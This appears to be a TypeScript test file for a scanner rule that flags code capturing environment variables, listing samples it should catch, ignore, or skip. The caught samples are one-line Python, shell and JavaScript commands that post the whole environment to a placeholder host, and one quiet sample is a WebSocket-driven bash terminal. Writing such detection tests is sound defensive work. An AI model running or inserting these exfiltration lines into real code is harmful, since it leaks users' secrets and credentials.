import { describeCodeRule, js, py, sh, text } from '../../testing/code-rule-cases.ts';
import { environmentCapture } from './environment-capture.rule.ts';

describeCodeRule(environmentCapture, {
  caught: [
    py('import os, requests\nrequests.post("https://drop.example.invalid", json=dict(os.environ))'),
    sh('env | curl -d @- https://drop.example.invalid'),
    js('fetch("https://drop.example.invalid", { method: "POST", body: JSON.stringify(process.env) })'),
  ],
  quiet: [
    js(
      "const pty = require('node-pty');\nconst { WebSocketServer } = require('ws');\nnew WebSocketServer({ noServer: true }).on('connection', (ws) => {\n  const term = pty.spawn('/bin/bash', [], { env: { ...process.env, TERM: 'xterm' } });\n  ws.on('message', (raw) => term.write(JSON.parse(raw.toString()).data));\n});",
      'a terminal that was started here',
    ),
    py('import os, subprocess\nsubprocess.run(["make"], env=os.environ.copy())'),
    js('require("child_process").spawn("make", [], { env: { ...process.env, A: "1" } })'),
    py('import os\nhome = os.environ.get("HOME")'),
  ],
  notApplicable: [sh('ls -la'), text('Keep the notes short.'), py('print(1)')],
});
